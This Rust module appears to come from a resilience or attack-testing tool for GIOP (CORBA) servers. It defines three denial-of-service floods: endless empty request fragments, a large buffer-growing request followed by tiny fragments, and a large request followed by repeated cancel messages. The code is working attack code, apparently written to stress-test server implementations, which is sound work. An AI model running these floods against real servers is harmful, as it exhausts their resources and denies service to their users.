//! Requests in fragments that cost the server more than the attacker.

use std::time::Instant;

use punctual_giop::{Version, write_cancel_request};

use crate::attacks::{
    flood::Flood,
    messages::{first_part, fragment, octets, request},
    target::Target,
};

/// Fragments in one write.
const AT_A_TIME: usize = 4096;
/// Octets of a message that makes the server's buffer grow.
const LARGE: usize = 4 << 20;
/// Octets of small fragments that reach the server at a time.
const BURST: usize = 4 << 20;

/// Continues a request with fragments without content, forever: it never exceeds the limit of a message.
pub(super) fn empty(version: Version, target: &Target, deadline: Instant) -> u64 {
    let id = if version >= Version::V1_2 { 4 } else { 0 };
    let first = first_part(request(version, target, &target.key, "swallow", octets(8)));
    let flood = Flood {
        opening: first,
        ..Flood::of(&fragment(version, id), AT_A_TIME)
    };
    flood.run(target, deadline)
}

/// Makes the buffer of its connection grow, and fills it with fragments of 16 octets.
pub(super) fn small(target: &Target, deadline: Instant) -> u64 {
    let version = Version::V1_1;
    let mut opening = request(version, target, &target.key, "swallow", octets(LARGE));
    opening.extend(first_part(request(
        version,
        target,
        &target.key,
        "swallow",
        octets(8),
    )));
    let fragment = fragment(version, 4);
    let flood = Flood {
        opening,
        ..Flood::of(&fragment, BURST / fragment.len())
    };
    flood.run(target, deadline)
}

/// Begins a large request, and cancels others.
pub(super) fn cancelled(target: &Target, deadline: Instant) -> u64 {
    let version = Version::V1_1;
    let mut cancel = Vec::new();
    write_cancel_request(&mut cancel, version, 7);
    let first = first_part(request(version, target, &target.key, "swallow", octets(LARGE)));
    let flood = Flood {
        opening: first,
        ..Flood::of(&cancel, AT_A_TIME)
    };
    flood.run(target, deadline)
}
